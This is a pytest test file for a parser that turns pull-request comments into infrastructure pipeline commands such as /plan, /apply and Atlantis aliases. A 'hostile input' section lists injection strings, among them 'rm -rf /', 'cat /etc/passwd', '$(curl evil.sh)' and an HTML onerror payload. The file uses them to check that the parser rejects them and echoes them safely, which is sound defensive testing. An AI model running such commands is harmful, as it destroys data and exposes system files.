"""A reviewer types a comment on the PR; what does the pipeline make of it?"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from infra_pipeline.core.comment_parser import (
    Command,
    CommandName,
    Ignore,
    ParseResult,
    Reply,
    help_text,
    parse_comment,
)

LAYERS = ("bootstrap", "platform", "data-staging", "data-prod")
SUITES = ("smoke", "full")


def comment(body: str, author: str = "alice", author_type: str = "User") -> ParseResult:
    return parse_comment(
        body,
        author=author,
        author_type=author_type,
        layers=LAYERS,
        suites=SUITES,
        bot_login="infra-bot",
    )


def command(body: str) -> Command:
    result = comment(body)
    assert isinstance(result, Command), result
    return result


def reply(body: str) -> Reply:
    result = comment(body)
    assert isinstance(result, Reply), result
    return result


# --- commands and their arguments -------------------------------------------------------


def test_plan_without_layers_leaves_the_choice_to_the_pipeline():
    cmd = command("/plan")
    assert cmd == Command(CommandName.PLAN, (), False, None, "/plan", None)


def test_plan_and_apply_name_layers_in_the_order_given():
    assert command("/plan platform data-prod").layers == ("platform", "data-prod")
    assert command("/apply data-staging").name is CommandName.APPLY
    assert command("/apply data-staging").layers == ("data-staging",)


def test_all_selects_every_layer_in_config_order():
    cmd = command("/apply all")
    assert cmd.all_layers
    assert cmd.layers == LAYERS


def test_repeated_layers_are_planned_once():
    assert command("/plan platform platform").layers == ("platform",)


def test_layer_names_accept_a_case_insensitive_exact_match():
    assert command("/PLAN Platform").layers == ("platform",)


@pytest.mark.parametrize(
    ("body", "name"),
    [
        ("/health", CommandName.HEALTH),
        ("/review", CommandName.REVIEW),
        ("/help", CommandName.HELP),
        ("/unlock", CommandName.UNLOCK),
        ("/e2e", CommandName.E2E),
    ],
)
def test_argument_free_forms(body: str, name: CommandName):
    cmd = command(body)
    assert (cmd.name, cmd.layers, cmd.suite, cmd.alias) == (name, (), None, None)


def test_e2e_runs_a_configured_suite():
    assert command("/e2e smoke").suite == "smoke"


def test_unlock_names_layers():
    assert command("/unlock platform").layers == ("platform",)


def test_extra_lines_after_the_command_are_fine():
    assert command("/plan platform\n\nThanks! Also see the runbook.").layers == ("platform",)


# --- aliases --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("body", "name", "layers", "suite", "alias"),
    [
        ("atlantis plan", CommandName.PLAN, (), None, "atlantis plan"),
        ("atlantis plan -p platform", CommandName.PLAN, ("platform",), None, "atlantis plan"),
        (
            "atlantis apply --project=data-prod",
            CommandName.APPLY,
            ("data-prod",),
            None,
            "atlantis apply",
        ),
        ("atlantis apply bootstrap", CommandName.APPLY, ("bootstrap",), None, "atlantis apply"),
        ("infra dig", CommandName.HEALTH, (), None, "infra dig"),
        ("infra e2e full", CommandName.E2E, (), "full", None),
        ("infra plan platform", CommandName.PLAN, ("platform",), None, None),
        ("Infra Apply all", CommandName.APPLY, LAYERS, None, None),
        ("@claude", CommandName.REVIEW, (), None, "@claude"),
    ],
)
def test_legacy_and_semantic_spellings(body, name, layers, suite, alias):
    cmd = command(body)
    assert (cmd.name, cmd.layers, cmd.suite, cmd.alias) == (name, layers, suite, alias)


def test_claude_mention_keeps_its_request_in_raw_only():
    cmd = command("@claude please check the IAM changes")
    assert cmd.name is CommandName.REVIEW
    assert cmd.raw == "@claude please check the IAM changes"


# --- what is not a command ------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        "",
        "   \n\n",
        "LGTM",
        "Looks good, now run\n/apply",
        "infra is slow today",
        "/etc/hosts is wrong",
        "> /apply all\n\nthat is what I would do",
        "> quoting you\n/apply all",  # Markdown renders this line inside the quote
        "```\n/apply all\n```",
        "~~~~\n/apply all\n~~~\n~~~~",
        "    /apply all",  # an indented code block
        "- /apply all",
    ],
)
def test_ordinary_discussion_is_ignored(body: str):
    assert isinstance(comment(body), Ignore)


def test_quotes_and_fences_are_skipped_to_the_real_first_line():
    body = "> you said\n> /apply all\n\n```hcl\n/apply all\n```\n  /plan platform\n"
    assert command(body).layers == ("platform",)


def test_an_unclosed_fence_hides_the_rest_of_the_comment():
    assert isinstance(comment("```\n/apply all"), Ignore)


@pytest.mark.parametrize(
    ("author", "author_type"),
    [
        ("github-actions[bot]", "Bot"),
        ("renovate[bot]", "User"),
        ("Infra-Bot", "User"),
        ("x", "Bot"),
    ],
)
def test_bots_are_ignored(author: str, author_type: str):
    assert isinstance(comment("/apply all", author, author_type), Ignore)


@pytest.mark.parametrize(
    "body",
    ["/plan\n<!-- infra-pipeline -->", "<!-- infra-dashboard:abc1234 -->\n/apply all"],
)
def test_our_own_comments_are_ignored(body: str):
    assert isinstance(comment(body), Ignore)


# --- mistakes get a helpful reply -----------------------------------------------------


def test_a_typo_in_the_command_suggests_the_nearest():
    text = reply("/plna platform").text
    assert "did you mean `/plan`?" in text.lower()
    assert all(f"`/{c.value}`" in text for c in CommandName)
    assert reply("/plna").command is None


def test_a_typo_after_infra_or_atlantis_is_answered():
    assert "`/plan`" in reply("infra plna").text
    assert "`/apply`" in reply("atlantis aply").text


def test_unsupported_atlantis_commands_are_named():
    assert "`atlantis import` is not supported" in reply("atlantis import").text


def test_an_unknown_layer_lists_the_layers_and_the_nearest():
    result = reply("/apply data-prd")
    assert result.command is CommandName.APPLY
    assert "Did you mean `data-prod`?" in result.text
    assert all(f"`{name}`" in result.text for name in (*LAYERS, "all"))


def test_an_unknown_suite_lists_the_suites():
    result = reply("/e2e smok")
    assert "Did you mean `smoke`?" in result.text
    assert "`full`" in result.text


def test_wrong_argument_counts():
    assert "takes no arguments" in reply("/health now").text
    assert "takes no arguments" in reply("infra dig deep").text
    assert "at most one suite" in reply("/e2e smoke full").text


def test_a_dangling_project_flag_is_refused():
    assert reply("atlantis plan -p").command is CommandName.PLAN


def test_a_reply_to_a_big_repo_lists_only_some_layers():
    many = [f"service-{n:04d}" for n in range(1_000)]
    result = parse_comment(
        "/plan servce-0007", author="a", author_type="User", layers=many, suites=()
    )
    assert isinstance(result, Reply)
    assert "Did you mean `service-0007`?" in result.text
    assert "more" in result.text
    assert len(result.text) < 2_000


def test_no_suites_configured():
    result = parse_comment("/e2e smoke", author="a", author_type="User", layers=LAYERS, suites=())
    assert isinstance(result, Reply)
    assert "No e2e suites" in result.text


# --- hostile input --------------------------------------------------------------------

HOSTILE = [
    "/plan platform; rm -rf /",
    "/plan platform|cat /etc/passwd",
    "/apply $(curl evil.sh)",
    "/apply `id`",
    "/plan platform&&id",
    '/plan "platform"',
    "/plan 'platform'",
    "/e2e smoke;id",
    "/plan <img src=x onerror=alert(1)>",
    "/plan ``` `<script>` ``` ",
    "/plan pla\x00tform",
    "/plan \u202eplatform",
    "/plan " + "A" * 10_000,
    "atlantis plan -p platform;id",
]


@pytest.mark.parametrize("body", HOSTILE)
def test_shell_metacharacters_never_pass_and_are_echoed_safely(body: str):
    result = reply(body)
    # Every user-supplied fragment sits inside an inline code span: after removing the spans,
    # nothing that could be HTML or a fresh code span is left.
    outside_code = re.sub(r"`[^`\n]*`", "", result.text)
    assert "<" not in outside_code
    assert "`" not in outside_code
    assert "\x00" not in result.text
    assert "\u202e" not in result.text
    assert len(result.text) < 1_000


def test_metacharacter_replies_still_point_at_the_intended_layer():
    assert "Did you mean `platform`?" in reply("/plan platform;").text


# --- /help ----------------------------------------------------------------------------


def test_help_lists_commands_aliases_layers_and_suites():
    text = help_text(LAYERS, SUITES, {"apply": "maintain", "/plan": "write"})
    for name in CommandName:
        assert f"`/{name.value}`" in text
    for alias in ("atlantis plan", "atlantis apply", "infra dig", "@claude"):
        assert f"`{alias}`" in text
    for value in (*LAYERS, "all", *SUITES):
        assert f"`{value}`" in text
    assert "| maintain |" in text
    assert "| write |" in text


def test_help_without_suites_or_permissions():
    text = help_text(LAYERS, [])
    assert "none configured" in text
    assert "Who can run it" not in text


# --- properties -----------------------------------------------------------------------

names = st.sampled_from([*LAYERS, *SUITES, "all", "-p", "atlantis", "infra", "/plan", "/e2e"])
words = st.one_of(names, st.text(max_size=30))
bodies = st.one_of(
    st.text(),
    st.lists(words, max_size=8).map(" ".join),
    st.tuples(
        st.sampled_from(["/plan ", "/apply ", "/e2e ", "atlantis plan -p ", "> "]), st.text()
    ).map("".join),
    # Huge comments, built by repetition because generating them char by char is slow.
    st.tuples(st.text(min_size=1, max_size=40), st.integers(1_000, 50_000)).map(
        lambda t: t[0] * t[1]
    ),
)


@settings(max_examples=400, deadline=None)
@given(body=bodies, author=st.text(max_size=20), author_type=st.sampled_from(["User", "Bot", ""]))
def test_any_comment_yields_a_value_and_commands_only_hold_configured_names(
    body: str, author: str, author_type: str
):
    result = parse_comment(
        body, author=author, author_type=author_type, layers=LAYERS, suites=SUITES
    )
    assert isinstance(result, Command | Reply | Ignore)
    if isinstance(result, Command):
        assert set(result.layers) <= set(LAYERS)
        assert result.suite is None or result.suite in SUITES
